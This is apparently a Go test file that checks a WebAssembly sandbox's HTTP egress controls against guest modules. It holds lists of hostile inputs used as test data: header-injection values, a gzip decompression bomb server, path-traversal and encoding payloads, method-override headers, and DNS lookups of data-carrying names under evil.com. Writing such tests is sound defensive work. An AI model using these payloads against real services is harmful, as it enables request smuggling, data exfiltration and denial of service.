package sandbox

import (
	"bytes"
	"compress/flate"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/wagent-dev/wagent/host/policy"
	"github.com/wagent-dev/wagent/sdk/abi"
)

// The rows of the network that decide what passes between a guest and a server
// that was granted.

func TestNET7HeadersThatAreNotTheGuests(t *testing.T) {
	l, n := newLab(t), newInternet()
	n.serve(t, "https://api.example.com", sayOK)
	doors := n.doors(t, l.engine, allowing(t, nil, "api.example.com"))
	with := func(name, value string) abi.HTTPRequest {
		return abi.HTTPRequest{Method: "GET", URL: "https://api.example.com/", Headers: map[string]string{name: value}}
	}
	for _, name := range []string{
		"Host", "hOST", "Content-Length", "Transfer-Encoding", "transfer_encoding", "Connection", "Keep-Alive", "TE", "Trailer", "Upgrade", "Expect",
		"Proxy-Authorization", "Proxy-Connection", "Proxy-Anything", "Via", "Forwarded", "X-Forwarded-For", "X-Real-IP",
	} {
		refusedAt(t, doors, with(name, "x"), "denied", "is not the guest's to set")
	}
	for name, value := range map[string]string{
		"X-A": "a\r\nX: y", "X-B": "a\nHost: evil.com", "X-C": "a\rb", "X-D": "\x00", "X-E": "a\x7f",
		"X-F\r\nHost": "evil.com", "X G": "a", "X-H:": "a", "": "a", ":authority": "evil.com", "X-ü": "a",
	} {
		refusedAt(t, doors, with(name, value), "invalid", "a header's ")
	}
	many, large := abi.HTTPRequest{URL: "https://api.example.com/", Headers: map[string]string{}}, with("X-A", strings.Repeat("x", 32<<10))
	for i := range 65 {
		many.Headers[fmt.Sprint("X-", i)] = "x"
	}
	refusedAt(t, doors, many, "too_many", "more than 64 headers")
	refusedAt(t, doors, large, "too_large", "more than 32768 bytes")
	twice := with("x-a", "1")
	twice.Headers["X-A"] = "2"
	refusedAt(t, doors, twice, "invalid", "twice")
	n.untouched(t)
	for _, r := range answeredAt(t, doors, with("X-Own", "the guest's")) {
		if _, ok := r.Headers["Date"]; !ok && r.Headers["date"] == "" {
			t.Errorf("the response's headers are %v", r.Headers)
		}
	}
	for _, a := range n.record().requests {
		if a.header.Get("X-Own") != "the guest's" || a.to != "api.example.com" || len(a.header) != 3 { // and User-Agent, Accept-Encoding
			t.Errorf("the server got %s %v", a.to, a.header)
		}
	}
	l.works(t)
}

// gigabytes is a stream of gzip that unpacks to n GiB, and has a thousandth of them.
func gigabytes(t *testing.T, n int) func(io.Writer) {
	t.Helper()
	var block bytes.Buffer
	z, err := flate.NewWriter(&block, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := z.Write(make([]byte, 1<<20)); err != nil {
		t.Fatal(err)
	}
	if err := z.Flush(); err != nil { // ends at a whole byte, and looks back on nothing
		t.Fatal(err)
	}
	return func(w io.Writer) {
		_, err := w.Write([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"))
		for i := 0; i < n*1024 && err == nil; i++ {
			_, err = w.Write(block.Bytes())
		}
	}
}

// badServer is one that does not end, or lies.
func badServer(t *testing.T) http.HandlerFunc {
	t.Helper()
	bomb := gigabytes(t, 10)
	endless := func(w http.ResponseWriter, r *http.Request, piece []byte) {
		for r.Context().Err() == nil {
			if _, err := w.Write(piece); err != nil {
				return
			}
		}
	}
	raw := func(w http.ResponseWriter, s string) {
		c, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		_, _ = io.WriteString(c, s)
		_ = c.Close()
	}
	return func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/endless":
			endless(w, r, make([]byte, 64<<10))
		case "/bomb":
			w.Header().Set("Content-Encoding", "gzip")
			bomb(w)
		case "/silent":
			<-r.Context().Done()
		case "/drip":
			drip(w, r)
		case "/headers":
			for i := range 5000 {
				w.Header().Set(fmt.Sprint("X-", i), strings.Repeat("x", 1000))
			}
		case "/early":
			raw(w, strings.Repeat("HTTP/1.1 103 Early Hints\r\nLink: "+strings.Repeat("x", 1000)+"\r\n\r\n", 5000))
		case "/more":
			raw(w, "HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\nx")
		case "/less":
			raw(w, "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhello")
		case "/negative":
			raw(w, "HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\nhello")
		case "/cut":
			raw(w, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhel")
		case "/switch":
			raw(w, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n")
		default:
			sayOK(w, r)
		}
	}
}

// drip writes as slowly as the guest can bear: the next byte when the last has
// arrived on the way, and then nothing.
func drip(w http.ResponseWriter, r *http.Request) {
	for range 3 {
		_, _ = w.Write([]byte("x"))
		_ = http.NewResponseController(w).Flush()
	}
	<-r.Context().Done()
}

func TestNET8ResponsesAreBoundedInBytesAndTime(t *testing.T) {
	l, n := newLab(t), newInternet()
	n.serve(t, "https://api.example.com", badServer(t))
	grant := allowing(t, nil, "api.example.com")
	for _, guest := range []func(testing.TB) Source{sdkGuest, wasiGuest, extismGuest} {
		src := guest(t)
		grant(&src)
		// Compiled before the attacks are weighed.
		closed(t, load(t, l.engine, src))
		for path, code := range map[string]string{
			"/endless": "too_large", "/bomb": "too_large", "/headers": "too_large", "/early": "too_large", "/more": "too_large",
			"/less": "unavailable", "/negative": "unavailable", "/cut": "unavailable", "/switch": "unavailable",
			"/silent": "", "/drip": "",
		} {
			src, want := src, well
			if code == "" {
				src.Policy.Limits.Timeout, want = overrun/4, []Fault{FaultTimeout}
			}
			l.suffers(t, attack{what: src.Name + path, src: src, want: want, on: func(m *Module) Outcome {
				n.join(t, m)
				d := doorOf(m)
				if code == "" {
					out := m.Call(t.Context(), Call{Tool: "requests", Arguments: d.arguments(t, getOf("https://api.example.com"+path))})
					n.leave(t, m)
					return out
				}
				refusedAt(t, []netDoor{d}, getOf("https://api.example.com"+path), code, "")
				answeredAt(t, []netDoor{d}, getOf("https://api.example.com/"))
				n.leave(t, m)
				return Outcome{}
			}})
		}
	}
}

func TestNET9RequestsOfACallAreCounted(t *testing.T) {
	l, n := newLab(t), newInternet()
	var now, most atomic.Int64
	n.serve(t, "https://api.example.com", func(w http.ResponseWriter, r *http.Request) {
		at := now.Add(1)
		defer now.Add(-1)
		for seen := most.Load(); at > seen && !most.CompareAndSwap(seen, at); seen = most.Load() {
		}
		sayOK(w, r)
	})
	grant := allowing(t, []string{"GET", "POST"}, "api.example.com")
	// Ten thousand answers take the guest long to write down.
	doors := n.doors(t, l.engine, grant, within(time.Minute))
	kit, program := doors[0].m, doors[1].m
	limit := kit.src.Policy.Limits.HTTPRequests

	// Ten thousand in one call.
	out := timely(t, kit, Call{Tool: "requests", Arguments: json.RawMessage(`{"requests":[{"url":"https://api.example.com/"}],"times":10000}`)})
	replies, err := readKit([]byte(said(out)))
	if err != nil || len(replies) != 10000 {
		t.Fatalf("%q %v %.300s", out.Fault, err, said(out))
	}
	for i, r := range replies {
		if (i < limit) != (r.Code == "") || i >= limit && r.Code != string(abi.RateLimited) {
			t.Fatalf("request %d: %+v", i, r)
		}
	}
	many := slices.Repeat([]abi.HTTPRequest{getOf("https://api.example.com/")}, 3*limit)
	for i, r := range doors[1].ask(t, many...) {
		if (i < limit) != (r.Code == "") || i >= limit && r.Code != "too_many" {
			t.Fatalf("request %d: %+v", i, r)
		}
	}
	plugin := load(t, l.engine, stepsSource(t, grant))
	n.join(t, plugin)
	var s steps
	for range limit + 1 {
		s.do("http_request", s.text(`{"url":"https://api.example.com/"}`), num(0))
	}
	if r := perform(t, plugin, "leave", s.program); !strings.Contains(r.Said, "too_many: more than 20 requests in one call") {
		t.Errorf("%+v", r)
	}
	if got := len(n.record().requests); got != 3*limit {
		t.Errorf("the server got %d requests of three calls", got)
	}

	// What a call can send is bounded by that and by the size of a body.
	for _, body := range []int{maxHTTPBody + 1, 2 << 20, 8 << 20} {
		args := fmt.Sprintf(`{"requests":[{"method":"POST","url":"https://api.example.com/"}],"body":%d}`, body)
		replies, err := readKit([]byte(said(timely(t, kit, Call{Tool: "requests", Arguments: json.RawMessage(args)}))))
		if err != nil || len(replies) != 1 || replies[0].Code != string(abi.Input) {
			t.Errorf("a body of %d: %+v %v", body, replies, err)
		}
	}
	n.untouched(t)
	// A gigabyte that is said to be there is not looked for.
	p := parts{
		types: []string{"\x60\x02\x7f\x7f\x01\x7e"}, imports: []string{imported(abi.Module, abi.ImportHTTP, typeOwn)},
		call: "i32.const 8192 i32.const 1073741824 call 0 i64.const -2 i64.ne if unreachable end " +
			"i32.const 0 i32.const -1 call 0 i64.const -2 i64.ne if unreachable end " + answers(),
	}
	src := p.source("gigabyte")
	grant(&src)
	l.suffers(t, attack{what: "a gigabyte", src: src, want: well, says: "done"})

	// Names that nobody granted are not looked up: a lookup is a message too.
	for _, m := range doors {
		for i := range 20 {
			secret := strings.Repeat(fmt.Sprintf("%063d.", i), 3)
			m.ask(t, getOf("https://"+secret+"evil.com/"), getOf("https://a.api.example.com/"))
		}
	}
	n.untouched(t)

	// One guest makes one request at a time.
	const callers = 4
	var calls sync.WaitGroup
	for range callers {
		for _, m := range []*Module{kit, program} {
			calls.Go(func() {
				if out := m.Call(t.Context(), Call{Tool: "requests", Arguments: requestsArg(t, many[:limit])}); out.Fault != "" {
					t.Errorf("%q %s", out.Fault, out.Detail)
				}
			})
		}
	}
	calls.Wait()
	if most.Load() > 2*callers {
		t.Errorf("%d requests at once of %d calls", most.Load(), 2*callers)
	}
	n.record()
	answeredAt(t, doors, getOf("https://api.example.com/"))
	l.works(t)
}

func TestNET10ModulesShareNoConnectionAndNoCookie(t *testing.T) {
	l, n := newLab(t), newInternet()
	n.serve(t, "https://api.example.com", func(w http.ResponseWriter, r *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "session", Value: "of one", Path: "/"})
		w.Header().Set("Authentication-Info", "x")
		sayOK(w, r)
	})
	grant := allowing(t, nil, "api.example.com")
	doors := append(n.doors(t, l.engine, grant), n.doors(t, l.engine, grant)...)
	for range 2 {
		for _, r := range answeredAt(t, doors, getOf("https://api.example.com/")) {
			if cookie := r.Headers["Set-Cookie"] + r.Headers["set-cookie"]; !strings.HasPrefix(cookie, "session=") {
				t.Errorf("a guest got the cookie %q", cookie)
			}
		}
	}
	r := n.record()
	of := map[string]int{} // requests of a connection
	for _, a := range r.requests {
		if a.header.Get("Cookie")+a.header.Get("Authorization") != "" {
			t.Errorf("the server got %v", a.header)
		}
		of[a.from]++
	}
	if len(r.requests) != 2*len(doors) || len(of) != len(doors) || len(r.dials) != len(doors) {
		t.Errorf("%d modules made %d requests over %d connections", len(doors), len(r.requests), len(of))
	}
	// Neither does a module know another's grants.
	none := n.doors(t, l.engine, allowing(t, nil, "other.example.com"))
	refusedAt(t, none, getOf("https://api.example.com/"), "denied", "no grant covers this")
	n.untouched(t)
	l.works(t)
}

func TestNET11CredentialsOfTheGuestGoToOneOriginOnly(t *testing.T) {
	l, n := newLab(t), newInternet()
	away := func(to string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Location", to)
			w.WriteHeader(http.StatusPermanentRedirect)
		}
	}
	n.serve(t, "https://api.example.com", away("https://b.example.com/"))
	n.serve(t, "https://b.example.com", away("https://api.example.com:444/"))
	at := n.serve(t, "https://c.example.com", sayOK)
	n.mu.Lock()
	// The same host at another port is another origin.
	n.names["api.example.com"] = [][]netip.Addr{{n.names["api.example.com"][0][0], at}}
	n.servers[netip.AddrPortFrom(n.names["api.example.com"][0][0], 444)] = n.servers[netip.AddrPortFrom(at, 443)]
	n.mu.Unlock()
	doors := n.doors(t, l.engine, allowing(t, nil, "api.example.com", "b.example.com", "api.example.com:444"))
	headers := map[string]string{"Authorization": "Bearer hunter2", "Cookie": "a=hunter2", "X-Api-Key": "hunter2", "X-Anything": "hunter2"}
	answeredAt(t, doors, abi.HTTPRequest{Method: "GET", URL: "https://api.example.com/?q=1", Headers: headers})
	told := map[string]int{}
	for _, a := range n.record().requests {
		for _, values := range a.header {
			if strings.Contains(strings.Join(values, " "), "hunter2") {
				told[a.to]++
			}
		}
		if a.to != "api.example.com" && strings.Contains(a.uri, "q=1") {
			t.Errorf("%s was asked for %s", a.to, a.uri)
		}
	}
	if len(told) != 1 || told["api.example.com"] != len(headers)*len(doors) {
		t.Errorf("told: %v", told)
	}
	l.works(t)
}

func TestThreat9RequestsThatServersReadInAnotherWay(t *testing.T) {
	l, n := newLab(t), newInternet()
	n.serve(t, "https://api.example.com", sayOK)
	own := n.serve(t, "https://own.example.com", sayOK)
	n.own = []netip.Addr{netip.AddrFrom16(own.As16())} // as the system may tell it
	granted := allowing(t, nil, "own.example.com")
	paths := func(s *Source) {
		s.Policy.Grants.HTTP = append(s.Policy.Grants.HTTP, policy.HTTPRule{
			Scheme: "https", Host: "api.example.com", Port: 443, Methods: []string{"GET", "MOVE", "TRACE", "CONNECT"}, Paths: []string{"/pub/**"},
		})
	}
	doors := n.doors(t, l.engine, granted, paths)
	for _, path := range []string{
		"/pub/../admin", "/pub/./x", "/pub/..", "/pub/%2e%2e/admin", "/pub/.%2E/admin", "/pub/%252e%252e/admin", "/pub/%25252e%25252e/admin",
		"/pub/..;/admin", "/pub/..;a=b/admin", "/pub/%2e%2e%3b/admin", "/pub/%zz/../admin", "/pub/%25zz/%252e%252e/admin",
		"/pub/a%2fb", "/pub/..%2fadmin", "/pub/..%2Fadmin", "/pub/..%252fadmin", "/pub/..%5cadmin", "/pub/a%5Cb", "/pub/a%255cb", `/pub/..\admin`, `/pub\x`,
		"/pub/%c0%ae%c0%ae/admin", "/pub/..%c0%afadmin", "/pub/%e0%80%ae%e0%80%ae/", "/pub/..%c1%9cadmin", "/pub/%00", "/pub/%0d%0aX:%20y", "/pub/a%09b",
	} {
		refusedAt(t, doors, getOf("https://api.example.com"+path), "invalid", "")
	}
	for _, path := range []string{"/", "/admin", "//pub/x", "/PUB/x", "/pub", "/publish/x", "/%70ublic/x"} {
		refusedAt(t, doors, getOf("https://api.example.com"+path), "denied", "no grant covers this")
	}
	for _, method := range []string{"TRACE", "trace", "CONNECT", "Connect"} {
		refusedAt(t, doors, abi.HTTPRequest{Method: method, URL: "https://api.example.com/pub/x"}, "denied", "TRACE and CONNECT are never allowed")
	}
	for _, method := range []string{"GET /admin HTTP/1.1\r\nX:", "G ET", "ＧＥＴ", strings.Repeat("G", 33)} {
		refusedAt(t, doors, abi.HTTPRequest{Method: method, URL: "https://api.example.com/pub/x"}, "invalid", "not an HTTP method")
	}
	for _, name := range []string{
		"X-HTTP-Method-Override", "x_http_method_override", "X-HTTP-Method", "X-Method-Override", "Method-Override", "X-Original-URL", "X-Original-URI",
		"X-Original-Path", "X-Original-Host", "X-Original-Method", "X-Rewrite-URL", "X-Rewrite-URI", "X-Override-URL", "X-HTTP-Path-Override", "X-HTTP-Host-Override",
		"X-Envoy-Original-Path", "X-Forwarded-Host", "X-Forwarded-Prefix", "X-Forwarded-Proto", "X-Host", "X-Proxy-Host", "Destination",
	} {
		req := abi.HTTPRequest{Method: "MOVE", URL: "https://api.example.com/pub/x", Headers: map[string]string{name: "/admin"}}
		refusedAt(t, doors, req, "denied", "is not the guest's to set")
	}
	n.untouched(t)
	refusedAt(t, doors, getOf("https://own.example.com/"), "denied", "own address")
	if r := n.record(); len(r.dials) > 0 {
		t.Errorf("connected to %v", r.dials)
	}
	for _, url := range []string{"https://api.example.com/pub/%70ages/a%20b;v=1/...", "https://api.example.com/pub/100%25?x=../%2f"} {
		answeredAt(t, doors, getOf(url))
	}
	for _, a := range n.record().requests {
		if !strings.HasPrefix(a.uri, "/pub/") {
			t.Errorf("the server was asked for %s", a.uri)
		}
	}
	l.works(t)
}

// What this machine really has for addresses is refused as well, by the system's
// own word.
func TestThreat9AddressesOfThisMachineAreRefused(t *testing.T) {
	l := newLab(t)
	all, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	src := sdkGuest(t)
	var reqs []abi.HTTPRequest
	for _, a := range all {
		at := netip.MustParsePrefix(a.String()).Addr()
		if at.Zone() != "" || at.Is6() && at.IsLinkLocalUnicast() {
			continue
		}
		s, err := net.Listen("tcp", netip.AddrPortFrom(at, 0).String())
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = s.Close() }()
		go func() {
			if c, err := s.Accept(); err == nil {
				t.Errorf("connected to %v", s.Addr())
				_ = c.Close()
			}
		}()
		url := "http://" + s.Addr().String()
		allowing(t, nil, url)(&src)
		reqs = append(reqs, getOf(url))
	}
	m := load(t, l.engine, src)
	for i, r := range askGuest(t, m, readKit, reqs) {
		if r.Code != string(abi.AuthRequired) || r.fault != "" {
			t.Errorf("%s: %+v", reqs[i].URL, r)
		}
	}
	l.works(t)
}
